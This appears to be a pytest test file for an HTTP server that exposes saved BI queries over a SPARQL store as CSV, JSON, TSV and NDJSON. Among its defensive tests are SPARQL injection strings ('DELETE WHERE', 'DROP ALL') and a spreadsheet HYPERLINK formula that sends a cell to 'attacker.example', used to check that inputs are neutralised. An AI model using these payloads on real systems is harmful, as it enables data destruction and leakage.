"""Saved BI queries over HTTP: CSV a spreadsheet or pandas reads as is, typed parameters."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import urllib.parse
from dataclasses import replace
from pathlib import Path

import pyoxigraph as ox
import pytest

from tgsparql.asking.llm.offline import OfflineBackend
from tgsparql.asking.pipeline import GraphRag
from tgsparql.rdf import vocab
from tgsparql.rdf.iris import SessionIds
from tgsparql.rdf.templates import Templates
from tgsparql.serve.config import ServerConfig
from tgsparql.serve.jobs import SavedJob
from tgsparql.serve.readonly import open_served
from tgsparql.serve.saved import saved_queries
from tgsparql.stores.store import Store, open_store
from tgsparql.testing.fakes import Script, ScriptedBackend

from .conftest import FAILED_ERROR, FAILED_QUESTION, Served

NAMES = ["answers_citing_nothing", "documents_never_cited", "edges_per_session",
         "failed_sessions", "most_cited_documents", "most_selected_facts", "sessions_per_day",
         "stale_sessions", "tokens_by_model"]
EVIL = ['") } DELETE WHERE { ?s ?p ?o } #', "x'} }>\n<urn:a> ; DROP ALL", "\\\"\u2028}"]


def rows(served: Served, name: str, query: str = "") -> list[dict[str, str]]:
    reply = served.get(f"/queries/{name}.csv" + (f"?{query}" if query else ""))
    assert reply.status == 200, reply.text
    assert reply.headers["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(reply.text)))


def test_every_saved_query_has_metadata_and_a_template() -> None:
    assert sorted(saved_queries()) == NAMES
    for name in NAMES:
        assert f"bi/{name}" in Templates().names()


def test_index_lists_descriptions_and_example_urls(served: Served) -> None:
    page = served.get("/queries").text
    for query in saved_queries().values():
        assert query.description.replace('"', "&#34;") in page
        assert f'href="{query.example_url()}"' in page.replace("&amp;", "&")


def test_csv_is_plain_values_read_by_the_csv_module(served: Served) -> None:
    edges = rows(served, "edges_per_session")
    assert len(edges) == 3 and edges[-1]["session"] == served.failed  # newest first
    answered = [row for row in edges if row["status"] == "complete"]
    assert {int(row["retrieved"]) for row in answered} == {35}
    assert all(int(row["selected"]) >= 1 for row in answered)
    assert all(not row["session"].startswith("<") for row in edges)
    facts = rows(served, "most_selected_facts", "limit=3")
    assert len(facts) == 3 and facts[0]["subject"].startswith("https://example.org/demo/")
    assert int(facts[0]["selections"]) >= int(facts[-1]["selections"])
    assert facts[0]["subjectLabel"] and not facts[0]["subjectLabel"].startswith('"')
    cited = rows(served, "most_cited_documents")
    assert {row["title"] for row in cited} >= {"Marie Curie: From Warsaw to Paris"}
    never = rows(served, "documents_never_cited")
    titles = {row["title"] for row in never}
    assert "The Radium Institute in Paris" in titles and not titles & {r["title"] for r in cited}
    assert len(titles) + len(cited) == 4  # the demo's documents, each cited or never
    assert all(int(row["facts"]) > 0 for row in never)
    days = rows(served, "sessions_per_day")
    assert sum(int(row["sessions"]) for row in days) == 3
    assert days[0] == {"day": "2024-05-01", "sessions": "1", "complete": "0", "failed": "1",
                       "open": "0"}
    assert rows(served, "sessions_per_day", "since=2024-05-02&until=2024-12-31") == []
    assert rows(served, "tokens_by_model") == []  # the offline backend records no usage
    assert rows(served, "answers_citing_nothing") == []  # the offline answerer cites its edges


def test_failed_sessions_with_their_errors(served: Served) -> None:
    (row,) = rows(served, "failed_sessions")
    assert (row["question"], row["error"], row["stage"]) == (FAILED_QUESTION, FAILED_ERROR,
                                                             "session")
    assert rows(served, "failed_sessions", "error_contains=TIMED+OUT") == [row]
    assert rows(served, "failed_sessions", "error_contains=quota") == []


def test_a_question_cannot_plant_a_formula_in_a_csv(tmp_path: Path) -> None:
    """A failed session's question is a cell of failed_sessions.csv: one that a spreadsheet
    would run is neutralised, unless the server is started with --csv-raw."""
    formula = "=HYPERLINK(\"https://attacker.example/?\"&A1, \"click\")"
    store = open_store(tmp_path / "store")
    ids, started = SessionIds.new(), dt.datetime(2024, 5, 1, tzinfo=dt.timezone.utc)
    graph = vocab.DEFAULT_COLLECTION.graph
    store.run("record_session", graph=graph, session=ids.session, question=formula,
              started=started)
    store.run("record_failure", graph=graph, session=ids.session, error="-1 tokens left",
              ended=started, started=started)
    store.close()
    config = ServerConfig(store=tmp_path / "store")

    def cells(config: ServerConfig) -> tuple[str, str]:
        with open_served(config) as served:
            answer = SavedJob("failed_sessions", {}, "csv").answer(served, config)
        (row,) = csv.DictReader(io.StringIO(answer.body.decode("utf-8")))
        return row["question"], row["error"]

    assert cells(config) == ("'" + formula, "'-1 tokens left")
    assert cells(replace(config, csv_raw=True)) == (formula, "-1 tokens left")


def test_stale_sessions_lists_the_session_whose_selected_fact_was_deleted(
    tmp_path: Path, tgsparql_demo_file: Path,
) -> None:
    """Served as JSON and CSV like every saved query: the same sessions and counts as
    `tgsparql drift`, none before the KG changed."""
    from tgsparql.data.loader import load_files
    from tgsparql.record.drift import find_drift

    store = open_store(tmp_path / "store")
    load_files(store, [tgsparql_demo_file])
    GraphRag(store, OfflineBackend()).ask("Where was the scientist who discovered polonium born?")
    config = ServerConfig(store=tmp_path / "store")

    def served(extension: str) -> str:
        with open_served(config) as readonly:
            return SavedJob("stale_sessions", {}, extension).answer(readonly, config).body.decode()

    store.close()
    assert json.loads(served("json"))["results"]["bindings"] == []
    store = open_store(tmp_path / "store")
    born = "<https://example.org/demo/entity/Marie_Curie> <https://example.org/demo/rel/bornIn> " \
           "<https://example.org/demo/entity/Warsaw>"
    store.update(f"DELETE DATA {{ {born} }}")
    [drifted] = find_drift(store, vocab.DEFAULT_COLLECTION).sessions
    store.close()
    [row] = csv.DictReader(io.StringIO(served("csv")))
    assert (row["session"], row["question"], row["staleEdges"], row["staleSources"]) == \
        (drifted.session, drifted.question, "1", "0")
    [binding] = json.loads(served("json"))["results"]["bindings"]
    assert binding["staleEdges"]["value"] == "1"


def test_pandas_reads_the_csv_url(served: Served) -> None:
    pandas = pytest.importorskip("pandas")
    frame = pandas.read_csv(served.url + "/queries/edges_per_session.csv")
    assert list(frame.columns) == ["session", "started", "status", "question", "retrieved",
                                   "selected", "ratio"]
    assert str(frame["selected"].dtype) in ("int64", "float64")
    assert frame["retrieved"].max() == 35


def test_json_and_tsv(served: Served) -> None:
    data = json.loads(served.get("/queries/most_cited_documents.json").text)
    assert data["head"]["vars"] == ["document", "title", "citations", "sessions"]
    tsv = served.get("/queries/most_cited_documents.tsv")
    assert tsv.headers["Content-Type"].startswith("text/tab-separated-values")
    solutions = ox.parse_query_results(tsv.body, format=ox.QueryResultsFormat.TSV)
    assert len(list(solutions)) == len(data["results"]["bindings"])


@pytest.mark.parametrize(("query", "message"), [
    ("limit=ten", "parameter limit='ten' is not an integer"),
    ("limit=0", "is not an integer from 1 to"),
    ("limit=5&limit=6", "given more than once"),
    ("colour=red", "unknown parameter 'colour'"),
    ("collection=a%3E%20%7D", "is not a collection name"),
])
def test_bad_parameters_are_400(served: Served, query: str, message: str) -> None:
    reply = served.get(f"/queries/edges_per_session.csv?{query}")
    assert reply.status == 400 and message in reply.text


def test_bad_date_and_unknown_query(served: Served) -> None:
    reply = served.get("/queries/sessions_per_day.csv?since=2024-13-01")
    assert reply.status == 400 and "a date YYYY-MM-DD" in reply.text
    assert served.get("/queries/drop_all.csv").status == 404
    assert served.get("/queries/edges_per_session.xlsx").status == 404


@pytest.mark.parametrize("evil", EVIL)
def test_injection_through_a_text_parameter_stays_one_literal(served: Served, evil: str) -> None:
    query = urllib.parse.urlencode({"error_contains": evil})
    assert rows(served, "failed_sessions", query) == []
    text = Templates().render("bi/failed_sessions", **saved_queries()["failed_sessions"].bind(
        {"error_contains": [evil]}))
    plain = Templates().render("bi/failed_sessions", **saved_queries()["failed_sessions"].bind(
        {"error_contains": ["PLACEHOLDER"]}))
    assert text.replace(str(ox.Literal(evil)), '"PLACEHOLDER"') == plain
    assert len(rows(served, "failed_sessions")) == 1  # nothing was deleted


@pytest.mark.parametrize("evil", EVIL)
def test_injection_through_typed_parameters_is_refused(served: Served, evil: str) -> None:
    for name, parameter in [("edges_per_session", "collection"), ("edges_per_session", "limit"),
                            ("sessions_per_day", "since")]:
        reply = served.get(f"/queries/{name}.csv?" + urllib.parse.urlencode({parameter: evil}))
        assert reply.status == 400, (name, parameter)


def test_ndjson_is_one_typed_record_a_line(served: Served) -> None:
    reply = served.get("/queries/edges_per_session.ndjson")
    assert reply.status == 200 and reply.headers["Content-Type"].startswith("application/x-ndjson")
    records = [json.loads(line) for line in reply.text.splitlines()]
    assert [set(r) for r in records] == [{"session", "started", "status", "question", "retrieved",
                                          "selected", "ratio"}] * 3
    failed = records[-1]
    assert failed["session"] == served.failed and failed["status"] == "failed"
    assert failed["retrieved"] is None and failed["ratio"] is None  # unbound: null, column kept
    answered = [r for r in records if r["status"] == "complete"]
    assert {r["retrieved"] for r in answered} == {35}  # xsd:integer: a JSON number
    assert all(isinstance(r["selected"], int) and isinstance(r["ratio"], float)
               for r in answered)  # a decimal with a point: a JSON number too
    assert failed["started"] == "2024-05-01T09:30:00Z"  # xsd:dateTime: its ISO 8601 form
    days = [json.loads(line) for line in
            served.get("/queries/sessions_per_day.ndjson?since=2024-05-01").text.splitlines()]
    assert days[0] == {"day": "2024-05-01", "sessions": 1, "complete": 0, "failed": 1, "open": 0}


def test_json_shape_objects_is_the_same_records_in_one_array(served: Served) -> None:
    reply = served.get("/queries/edges_per_session.json?shape=objects&limit=2")
    assert reply.status == 200 and reply.headers["Content-Type"].startswith("application/json")
    lines = served.get("/queries/edges_per_session.ndjson?limit=2").text.splitlines()
    assert json.loads(reply.text) == [json.loads(line) for line in lines]
    assert "head" in json.loads(served.get("/queries/edges_per_session.json?shape=sparql").text)
    assert served.get("/queries/tokens_by_model.json?shape=objects").text.strip() == "[]"
    assert served.get("/queries/tokens_by_model.ndjson").body == b""


@pytest.mark.parametrize("path", ["/queries/edges_per_session.csv?shape=objects",
                                  "/queries/edges_per_session.json?shape=rows",
                                  "/queries/edges_per_session.json?shape=objects&shape=objects"])
def test_shape_is_for_json_only_and_named_once(served: Served, path: str) -> None:
    reply = served.get(path)
    assert reply.status == 400 and "shape is for NAME.json only" in reply.text


def test_pandas_reads_the_records_urls(served: Served) -> None:
    pandas = pytest.importorskip("pandas")
    frame = pandas.read_json(served.url + "/queries/edges_per_session.ndjson", lines=True)
    assert list(frame.columns) == ["session", "started", "status", "question", "retrieved",
                                   "selected", "ratio"]
    assert len(frame) == 3 and frame["retrieved"].max() == 35
    assert str(frame["selected"].dtype) == "int64"
    assert frame["retrieved"].isna().sum() == 1
    objects = pandas.read_json(served.url + "/queries/sessions_per_day.json?shape=objects")
    assert objects["sessions"].sum() == 3 and str(objects["sessions"].dtype) == "int64"
    assert str(pandas.to_datetime(objects["day"]).dt.date.iloc[0]) == "2024-05-01"


def test_answers_citing_nothing_lists_those_with_edges_selected_and_no_citation(
    tgsparql_demo_store: Store,
) -> None:
    """Only the session whose answer cites none of the edges selected for it repeats its day as
    tg:uncitedDay, in the update that records the answer; the saved query lists that one."""
    born = ("Marie Curie", "born in", "Warsaw")
    scripts = {
        "Where was Marie Curie born?": Script([(born, "the birthplace")], "Somewhere far away."),
        "When was Marie Curie born?": Script([(born, "it is not")], "In Warsaw [a4a3a483]."),
        "Who is Nobody Atall?": Script(),  # nothing selected: not an answer that fails to cite
    }
    rag = GraphRag(tgsparql_demo_store, ScriptedBackend(scripts))
    for question in scripts:
        assert list(rag.query(question))[-1].error is None
    answer = tgsparql_demo_store.run("bi/answers_citing_nothing",
                                     collection=vocab.DEFAULT_COLLECTION, limit=10)
    found = [{name: row[name].value for name in ("question", "selected", "uncitedSentences")}
             for row in answer.rows]
    assert found == [{"question": "Where was Marie Curie born?", "selected": "1",
                      "uncitedSentences": "1"}]
    days = tgsparql_demo_store.select("""PREFIX tg: <https://trustgraph.ai/ns/>
        SELECT ?question ?day ?uncitedDay WHERE { GRAPH <urn:graph:explainability> {
          ?session tg:query ?question ; tg:day ?day .
          OPTIONAL { ?session tg:uncitedDay ?uncitedDay } } }""")
    marked = {row["question"].value: row.get("uncitedDay") for row in days}
    day_of = {row["question"].value: row["day"] for row in days}
    assert marked == {"Where was Marie Curie born?": day_of["Where was Marie Curie born?"],
                      "When was Marie Curie born?": None, "Who is Nobody Atall?": None}
